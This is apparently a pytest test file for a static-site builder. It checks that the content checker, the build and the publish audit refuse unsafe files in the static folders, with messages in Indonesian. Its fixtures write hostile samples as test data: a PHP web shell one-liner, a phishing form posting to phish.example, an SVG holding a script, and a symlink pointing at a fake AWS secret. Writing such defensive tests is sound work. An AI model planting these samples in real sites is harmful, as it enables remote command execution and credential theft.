"""Static folders (content/bukti/, content/images/) publish regular files of their types
only. A symlink to a secret, a linked folder, a page, a script, an SVG, a file whose
content is not what its name says, a TIFF or a named pipe is refused by `invoke check`,
`python -m kasdikdas check`, the build and `invoke publish` alike, in Indonesian, naming
the file; nothing is written and content/ is never changed. The publish audit refuses
an output file the build cannot have written."""

from __future__ import annotations

import hashlib
import os
import stat
import subprocess
import sys
from pathlib import Path

import pikepdf
import pytest
from PIL import Image
from support import ROOT
from support.hostile import scratch_content

from kasdikdas.build import build_site
from kasdikdas.model.paths import display_path
from kasdikdas.model.problems import ContentError

pytestmark = pytest.mark.slow  # its tests run ffmpeg, a build or a server in their own bodies

SECRET = "AWS_SECRET_ACCESS_KEY=rahasia-uji-23"

# case: (file under content/, words its problem says)
CASES = {
    "symlink-ke-luar": ("bukti/env.pdf", "berkas ini tautan (symlink)"),
    "folder-tautan": ("bukti/arsip", "folder ini tautan (symlink)"),
    "halaman-html": ("bukti/masuk.html", "jenis berkas `.html` tidak boleh di content/bukti/"),
    "skrip-js": ("bukti/masuk.js", "jenis berkas `.js` tidak boleh di content/bukti/"),
    "gambar-svg": ("bukti/logo.svg", "jenis berkas `.svg` tidak boleh di content/bukti/"),
    "pdf-berisi-teks": ("bukti/palsu.pdf", "isinya bukan PDF"),
    "jpg-berisi-teks": ("images/palsu.jpg", "isinya bukan gambar JPEG"),
    "png-berisi-jpeg": ("images/foto.png", "isinya bukan gambar PNG"),
    "pipa": ("bukti/pipa.pdf", "bukan berkas biasa"),
    "tiff-ber-gps": ("images/peta.tiff", "jenis berkas `.tiff` tidak boleh di content/images/"),
    "pdf-di-images": ("images/sk.pdf", "jenis berkas `.pdf` tidak boleh di content/images/"),
}


def real_pdf(target: Path) -> Path:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.save(target)
    return target


def gps_tiff(target: Path) -> Path:
    exif = Image.Exif()
    exif[0x010F], exif[0x0110] = "samsung", "SM-A105F"
    exif.get_ifd(0x8825).update({1: "S", 2: (6.0, 58.0, 12.5), 3: "E", 4: (111.0, 25.0, 0.0)})
    Image.new("RGB", (32, 24), "red").save(target, exif=exif)
    return target


def hostile_static(content: Path) -> None:
    """Every case of CASES, plus a sound PDF and picture that must pass."""
    bukti, images, outside = content / "bukti", content / "images", content.parent / "luar"
    for folder in (bukti, images, outside):
        folder.mkdir(exist_ok=True)
    (outside / "environ").write_text(SECRET, encoding="utf-8")
    real_pdf(outside / "kunci.pdf")
    os.symlink(outside / "environ", bukti / "env.pdf")
    os.symlink(outside, bukti / "arsip")
    (bukti / "masuk.html").write_text('<form action="https://phish.example/"></form>'
                                      '<script src="masuk.js"></script>', encoding="utf-8")
    (bukti / "masuk.js").write_text("fetch('/admin/').then(r => r.text())", encoding="utf-8")
    (bukti / "logo.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg">'
                                    '<script>alert(1)</script></svg>', encoding="utf-8")
    (bukti / "palsu.pdf").write_text("ini teks biasa, bukan PDF", encoding="utf-8")
    (images / "palsu.jpg").write_text("<html>bukan gambar</html>", encoding="utf-8")
    Image.new("RGB", (16, 16), "blue").save(images / "foto.png", format="JPEG")
    os.mkfifo(bukti / "pipa.pdf")
    gps_tiff(images / "peta.tiff")
    real_pdf(images / "sk.pdf")
    real_pdf(bukti / "sk-baik.pdf")  # sound files stay accepted
    Image.new("RGB", (16, 16), "green").save(images / "baik.png")


def snapshot(root: Path) -> dict[str, str]:
    """Every entry under root without reading a pipe: links by target, files by hash."""
    found = {}
    for dirpath, dirs, files in os.walk(root):
        for name in dirs + files:
            path = Path(dirpath) / name
            mode = os.lstat(path).st_mode
            rel = path.relative_to(root).as_posix()
            if stat.S_ISLNK(mode):
                found[rel] = "->" + os.readlink(path)
            elif stat.S_ISREG(mode):
                found[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
            else:
                found[rel] = oct(mode)
    return found


def problem_lines(text: str) -> set[str]:
    return {line for line in text.splitlines() if ": " in line and " — " in line
            and "masalah di" not in line}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    content = scratch_content(tmp_path_factory.mktemp("statis") / "content", videos=(),
                              showcases=False)
    hostile_static(content)
    return content


@pytest.fixture(scope="module")
def verdicts(hostile, tmp_path_factory) -> dict[str, set[str]]:
    """The problem lines of each command, run once on the hostile content."""
    tmp = tmp_path_factory.mktemp("putusan")
    before = snapshot(hostile)
    found = {}
    for name, command in (("invoke check", [sys.executable, "-m", "invoke", "check"]),
                          ("python -m kasdikdas check", [sys.executable, "-m", "kasdikdas", "check"])):
        run = subprocess.run([*command, "--content", str(hostile)], cwd=ROOT,
                             capture_output=True, text=True, timeout=300, check=False)
        assert run.returncode == 1, run.stdout + run.stderr
        found[name] = problem_lines(run.stdout)
    with pytest.raises(ContentError) as info:
        build_site(ROOT / "pelicanconf.py", tmp / "output", PATH=str(hostile),
                   CACHE_PATH=str(tmp / "cache"))
    assert not (tmp / "output").exists()
    found["build"] = {str(p) for p in info.value.problems}
    run = subprocess.run([sys.executable, "-m", "kasdikdas.publish", "--output", str(tmp / "terbit"),
                          "--work", str(tmp / "work"), "--rsync", str(tmp / "server"),
                          "--set", f"PATH={hostile}", "--set", f"CACHE_PATH={tmp / 'cache'}"],
                         cwd=ROOT, capture_output=True, text=True, timeout=300, check=False)
    assert run.returncode == 1 and "Tidak diterbitkan" in run.stderr, run.stdout + run.stderr
    assert not (tmp / "terbit").exists() and not (tmp / "server").exists()
    found["publish"] = problem_lines(run.stderr)
    assert snapshot(hostile) == before  # content/ is never changed
    return found


@pytest.mark.parametrize("case", sorted(CASES))
def test_each_case_is_refused_alike_by_check_build_and_publish(case, hostile, verdicts):
    relative, words = CASES[case]
    shown = display_path(hostile / relative)
    for command, lines in verdicts.items():
        mine = [line for line in lines if line.startswith(f"{shown}: berkas: ")]
        assert len(mine) == 1 and words in mine[0], (command, mine, sorted(lines))
        assert " — " in mine[0] and mine[0].split(" — ", 1)[1], mine  # says what to do


def test_every_command_gives_the_same_list_and_nothing_else(verdicts):
    lists = list(verdicts.values())
    assert all(found == lists[0] for found in lists), verdicts
    assert len(lists[0]) == len(CASES)  # the sound PDF and picture pass; the secret is never named
    assert not any(SECRET in line for line in lists[0])


def test_the_build_never_follows_a_link_even_past_validation(tmp_path, monkeypatch):
    """The build's own guard: a symlink Pelican is about to copy (here one validation
    was told to skip) stops the build before any file is written."""
    from kasdikdas import validate

    content = scratch_content(tmp_path / "content", videos=(), showcases=False)
    (content / "bukti").mkdir()
    (tmp_path / "environ").write_text(SECRET, encoding="utf-8")
    os.symlink(tmp_path / "environ", content / "bukti" / "env.pdf")
    monkeypatch.setattr(validate, "static_problems", lambda settings, private=(): [], raising=False)
    with pytest.raises(ContentError) as info:
        build_site(ROOT / "pelicanconf.py", tmp_path / "output", PATH=str(content),
                   CACHE_PATH=str(tmp_path / "cache"))
    (problem,) = info.value.problems
    assert problem.path.endswith("bukti/env.pdf") and "tautan (symlink)" in problem.message
    assert not (tmp_path / "output").exists()


def test_the_publish_audit_refuses_what_the_build_cannot_have_written(tmp_path):
    """The last audit before any deploy: links, pipes, types the build never writes,
    and a static folder's file of a type that folder does not take."""
    from kasdikdas.config import pelican_settings
    from kasdikdas.publish import check_output

    out = tmp_path / "output"
    (out / "bukti").mkdir(parents=True)
    (out / "index.html").write_text("<!doctype html><title>x</title>", encoding="utf-8")
    (out / "index.html.br").write_bytes(b"\x0b")
    real_pdf(out / "bukti" / "sk.pdf")
    (tmp_path / "environ").write_text(SECRET, encoding="utf-8")
    os.symlink(tmp_path / "environ", out / "bukti" / "env.pdf")
    os.symlink(tmp_path, out / "semua")
    os.mkfifo(out / "bukti" / "pipa.pdf")
    (out / "shell.php").write_text("<?php system($_GET['c']);", encoding="utf-8")
    (out / "bukti" / "masuk.html").write_text("<p>phishing</p>", encoding="utf-8")
    settings = pelican_settings(ROOT / "publishconf.py", HOSTING_FILES=())
    problems = check_output(out, settings)
    named = {p.split(":", 1)[0] for p in problems}
    assert named == {"bukti/env.pdf", "semua", "bukti/pipa.pdf", "shell.php", "bukti/masuk.html"}, problems
    assert all(" — " in p for p in problems if p.split(":", 1)[0] in named)


def test_a_static_link_out_of_the_static_folders_is_refused_alike(tmp_path):
    """`{static}/../rahasia.txt` or `{static}/data/…` in a showcase body would make
    Pelican copy that file into the site: check and build name the line, nothing is
    written."""
    content = scratch_content(tmp_path / "content", showcases=False)
    (tmp_path / "rahasia.txt").write_text(SECRET, encoding="utf-8")
    showcase = content / "kiprah" / "20300001-tautan.md"
    showcase.write_text(
        "---\ntitle: Tautan Statis\ndate: 2024-10-11\nschool: \"20300001\"\n"
        "category: kegiatan-sekolah\nvideo: videos/20300001-gamelan-cilik.mp4\n"
        "summary: Tautan ke berkas di luar folder statis.\nconsent: true\n---\n"
        "Lihat [data]({static}/data/schools.yml).\n\n"
        "Dan [ini]({static}/../rahasia.txt).\n", encoding="utf-8")
    run = subprocess.run([sys.executable, "-m", "invoke", "check", "--content", str(content)],
                         cwd=ROOT, capture_output=True, text=True, timeout=300, check=False)
    assert run.returncode == 1, run.stdout + run.stderr
    checked = problem_lines(run.stdout)
    shown = display_path(showcase)
    assert {line.split(": isi: ")[0] for line in checked} == {f"{shown}:10", f"{shown}:12"}, checked
    with pytest.raises(ContentError) as info:
        build_site(ROOT / "pelicanconf.py", tmp_path / "output", PATH=str(content),
                   CACHE_PATH=str(tmp_path / "cache"))
    assert {str(p) for p in info.value.problems} == checked
    assert not (tmp_path / "output").exists()
